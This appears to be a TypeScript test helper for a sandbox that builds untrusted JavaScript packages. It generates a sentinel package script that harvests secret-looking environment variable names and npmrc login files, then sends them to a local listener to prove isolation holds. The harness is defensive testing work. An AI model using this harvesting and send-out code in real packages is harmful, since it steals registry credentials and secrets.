// Sentinels for hostile JavaScript repositories: a listener on the host's 127.0.0.1 (a download box
// on the host's network would reach it) and a marker directory that exists only on the host. A
// sentinel script looks for a login (variables, piper's login file, an npmrc in HOME or the one the
// variables name), writes a
// marker named by its tag, connects to the listener sending what it found, and prints one
// `PIPER-PROBE <tag>` line. Nothing must arrive and no marker must be written.
import { mkdirSync, readdirSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { join } from 'node:path';

export interface Sentinel {
  port: number;
  /** What each connection sent (tag, the login variables' names, the login file read). */
  hits: string[];
  /** The host directory markers are written into. */
  dir: string;
  /** JavaScript (single quotes only) of the sentinel with this tag. */
  js(tag: string): string;
  /** A package script running it. */
  script(tag: string): string;
  /** The markers written (empty when no sentinel ran on the host). */
  markers(): string[];
  close(): Promise<void>;
}

export async function startSentinel(root: string): Promise<Sentinel> {
  const dir = join(root, 'sentinel-markers');
  mkdirSync(dir, { recursive: true });
  const hits: string[] = [];
  const server = createServer((socket) => {
    let data = '';
    socket.on('data', (d: Buffer) => (data += d.toString()));
    socket.on('close', () => hits.push(data || '(connected)'));
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  const js = (tag: string) =>
    [
      "const fs=require('fs'),net=require('net');",
      "const env=Object.entries(process.env).filter(([k,v])=>/token|_auth|password|secret/i.test(k)&&v).map(([k])=>k).join(',')||'none';",
      "const rcs=['/run/piper-npm/npmrc',(process.env.HOME||'/root')+'/.npmrc',process.env.NPM_CONFIG_USERCONFIG,process.env.npm_config_userconfig];",
      "let held='none';for(const f of rcs){try{held=fs.readFileSync(f,'utf8')}catch(e){}}",
      `try{fs.writeFileSync('${join(dir, tag)}',env)}catch(e){}`,
      `const s=net.connect(${port},'127.0.0.1',()=>s.end('${tag} '+env+' '+held));s.on('error',()=>{});`,
      `console.log('PIPER-PROBE ${tag} env='+env+' held='+(held==='none'?'none':'yes'));`,
    ].join('');
  return {
    port,
    hits,
    dir,
    js,
    script: (tag) => `node -e "${js(tag)}"`,
    markers: () => readdirSync(dir),
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/** The probe lines a build phase printed: from the line naming `from` to the one naming `to`. */
export function probesBetween(lines: string[], from: string, to: string | null): string[] {
  const start = lines.findIndex((l) => l.includes(from));
  if (start < 0) return [];
  const end = to ? lines.findIndex((l, i) => i > start && l.includes(to)) : -1;
  return lines.slice(start, end < 0 ? lines.length : end).filter((l) => l.includes('PIPER-PROBE'));
}
